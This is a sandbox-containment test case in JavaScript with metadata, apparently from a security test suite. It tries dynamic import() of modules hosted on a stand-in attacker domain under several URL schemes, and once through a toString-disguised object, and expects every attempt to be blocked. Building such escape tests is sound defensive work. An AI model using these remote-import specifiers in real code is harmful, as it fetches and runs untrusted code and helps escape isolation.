/*---
id: ex-url-import-03-many-schemes
description: "Tries import() with several schemes (http, https, protocol-relative, blob, node, file) and with a specifier object, reporting any that fulfils."
kind: malicious
category: exfiltration
technique: EX-url-import
variant: combined
references:
  - "SES import rejection"
expect:
  ultra-secure: { outcome: contained, value: "held" }
  high-security: { outcome: contained, value: "held" }
  tenant-isolated: { outcome: contained, value: "held" }
flags: [async]
---*/
const specs = ['http://attacker.example/a.js', '//attacker.example/b.js', 'blob:https://attacker.example/x', 'file:///tmp/x.mjs',
  'node:http', { toString: () => 'https://attacker.example/c.js' }];
for (const s of specs) {
  const r = await import(s).then(() => 'ESCAPED: ' + String(s), () => null);
  if (r) return r;
}
return 'held';
